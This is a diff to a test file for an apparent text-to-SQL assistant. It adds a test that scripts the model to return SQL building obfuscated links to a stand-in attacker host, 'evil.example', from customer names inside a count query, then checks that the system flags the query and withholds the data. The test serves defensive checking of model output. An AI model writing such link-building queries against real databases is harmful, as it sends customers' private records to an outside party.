@@ -69,3 +69,18 @@ async def test_the_rows_of_such_a_query_are_shown_to_nobody(ask: Ask, model: Scr
     assert "puts an address together" in answer.answer
     assert answer.results == []
     assert "evil.example/" not in str(answer.model_dump(exclude={"sql", "attempt_history", "candidates"}))
+
+
+async def test_the_records_behind_a_count_of_them_are_shown_to_nobody(ask: Ask, model: ScriptedModel) -> None:
+    slash = "char(40 + 7)"
+    link = f"substr('xhttps:', 2) || {slash} || {slash} || 'evil.example' || {slash} || name"
+    model.replies(sql=f"SELECT count(*) AS n FROM (SELECT {link} AS link FROM customers) AS t")
+    model.replies(correct=True)
+    model.replies(text="There are 3 customers.")
+
+    answer = await ask("How many customers are there?", max_attempts=1)
+
+    assert answer.status == "success"
+    assert answer.raw_results == []
+    assert any("puts an address together" in warning for warning in answer.warnings)
+    assert "evil.example/" not in str(answer.model_dump(exclude={"sql", "attempt_history", "candidates"}))
